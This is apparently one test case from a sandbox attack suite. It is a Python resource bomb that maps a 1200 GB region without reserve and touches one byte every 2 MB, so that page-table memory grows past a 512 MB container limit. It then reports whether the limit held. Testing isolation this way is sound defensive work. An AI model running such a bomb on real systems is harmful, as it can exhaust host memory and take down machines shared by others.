# class: resource
# tries: page tables: reads one byte in every 2 MB of a huge mapping, which is no resident memory
# network: any
# bomb: yes
# with: --memory 512
# timeout: 25
import mmap
import os

HOST = "@PIDNS@"  # filled in by attack_suite.py
if not HOST.startswith("pid:") or os.readlink("/proc/self/ns/pid") == HOST:
    raise SystemExit("a bomb starts only in a pid namespace of its own")
print("ATTEMPTED: mapping", flush=True)
size = 1200 << 30
flags = mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x4000  # no reserve
try:
    area = mmap.mmap(-1, size, flags=flags)
    area.madvise(mmap.MADV_NOHUGEPAGE)
except OSError as error:
    print(f"HELD: {error}")
    raise SystemExit from None
for at in range(0, size, 2 << 20):
    area[at]
tables = next(int(line.split()[1]) for line in open("/proc/self/status") if "VmPTE" in line) >> 10
print(f"ESCAPED: {tables} MB of page tables" if tables > 2000 else f"HELD: {tables} MB")
